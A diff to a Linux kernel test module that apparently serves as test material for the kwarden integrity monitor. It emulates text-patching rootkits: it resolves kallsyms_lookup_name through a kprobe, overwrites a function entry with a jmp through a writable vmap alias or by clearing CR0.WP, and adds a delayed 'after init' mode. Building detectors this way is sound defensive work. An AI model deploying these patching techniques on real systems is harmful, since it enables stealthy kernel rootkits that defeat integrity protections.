@@ -2,18 +2,21 @@
 /*
  * kw_rootkit_text - TEST MODULE, loaded only inside kwarden's test VMs.
  *
- * Hooks a core kernel function the way text-patching rootkits do: it writes
+ * Hooks a kernel or module function the way text-patching rootkits do: it writes
  * a 5-byte "jmp hook" over the function's entry (after ENDBR64), bypassing
  * the kernel's text_poke() paths.  Two ways in, as seen in the wild:
  *   mode=alias  write through a fresh writable vmap() alias of the page
  *   mode=cr0    clear CR0.WP with a raw mov (refused when CET is on)
- * The original bytes are put back when the module is removed.
+ * With delay_ms > 0 the hook is written that long after init returned
+ * (a patch "after init"); otherwise from inside init.  The original bytes
+ * are put back when the module is removed.
  */
 #include <linux/kallsyms.h>
 #include <linux/kprobes.h>
 #include <linux/mm.h>
 #include <linux/module.h>
 #include <linux/vmalloc.h>
+#include <linux/workqueue.h>
 #include <asm/processor-flags.h>
 #include <asm/special_insns.h>
 
@@ -21,30 +24,50 @@ static char *target = "__x64_sys_acct";
 module_param(target, charp, 0444);
 static char *mode = "alias";
 module_param(mode, charp, 0444);
+static unsigned int delay_ms;
+module_param(delay_ms, uint, 0444);
 
 static u8 *kw_site;
 static u8 kw_saved[5];
+static bool kw_hooked;
+static struct delayed_work kw_later;
 
 static noinline long kw_hook(void)
 {
 	return -EPERM;
 }
 
+typedef unsigned long (*kw_lookup_fn)(const char *name);
+
+/* Address of @name, past its ENDBR64 if it has one: the fentry site */
 static unsigned long kw_find(const char *name)
 {
-	struct kprobe kp = { .symbol_name = name };
+	struct kprobe kp = { .symbol_name = "kallsyms_lookup_name" };
+	kw_lookup_fn lookup;
 	unsigned long addr;
+	u32 insn;
 
 	if (register_kprobe(&kp))
 		return 0;
-	addr = (unsigned long)kp.addr;
+	lookup = (kw_lookup_fn)kp.addr;
 	unregister_kprobe(&kp);
+	/* the kprobe sits after ENDBR64; an indirect call must land on it */
+	if (!copy_from_kernel_nofault(&insn, (u8 *)lookup - 4, 4) &&
+	    insn == 0xfa1e0ff3)
+		lookup = (kw_lookup_fn)((u8 *)lookup - 4);
+	addr = lookup(name);
+	if (addr && !copy_from_kernel_nofault(&insn, (void *)addr, 4) &&
+	    insn == 0xfa1e0ff3)
+		addr += 4;
 	return addr;
 }
 
 static int kw_write_alias(u8 *dst, const u8 *src, size_t len)
 {
-	struct page *page = virt_to_page(__va(__pa_symbol(dst)));
+	/* modules live above the kernel image, in vmalloc'ed memory */
+	struct page *page = (unsigned long)dst >= MODULES_VADDR ?
+			    vmalloc_to_page(dst) :
+			    virt_to_page(__va(__pa_symbol(dst)));
 	u8 *map;
 
 	map = vmap(&page, 1, VM_MAP, PAGE_KERNEL);
@@ -76,29 +99,46 @@ static int kw_write(u8 *dst, const u8 *src, size_t len)
 	return kw_write_alias(dst, src, len);
 }
 
-static int __init kw_rootkit_init(void)
+static int kw_hook_site(void)
 {
 	u8 jmp[5] = { 0xe9 };
-	s32 rel;
+	s32 rel = (long)kw_hook - ((long)kw_site + 5);
 	int err;
 
-	/* kprobes report the address after ENDBR64, i.e. the fentry site */
-	kw_site = (u8 *)kw_find(target);
-	if (!kw_site)
-		return -ENOENT;
-	rel = (long)kw_hook - ((long)kw_site + 5);
 	memcpy(&jmp[1], &rel, sizeof(rel));
 	memcpy(kw_saved, kw_site, sizeof(kw_saved));
 	err = kw_write(kw_site, jmp, sizeof(jmp));
 	if (err)
 		return err;
+	kw_hooked = true;
 	pr_info("kw_rootkit_text: hooked %s at %pS via %s\n", target, kw_site,
 		mode);
 	return 0;
 }
 
+static void kw_later_fn(struct work_struct *work)
+{
+	kw_hook_site();
+}
+
+static int __init kw_rootkit_init(void)
+{
+	kw_site = (u8 *)kw_find(target);
+	if (!kw_site)
+		return -ENOENT;
+	if (!delay_ms)
+		return kw_hook_site();
+	INIT_DELAYED_WORK(&kw_later, kw_later_fn);
+	schedule_delayed_work(&kw_later, msecs_to_jiffies(delay_ms));
+	return 0;
+}
+
 static void __exit kw_rootkit_exit(void)
 {
+	if (delay_ms)
+		cancel_delayed_work_sync(&kw_later);
+	if (!kw_hooked)
+		return;
 	kw_write(kw_site, kw_saved, sizeof(kw_saved));
 	pr_info("kw_rootkit_text: unhooked %s\n", target);
 }
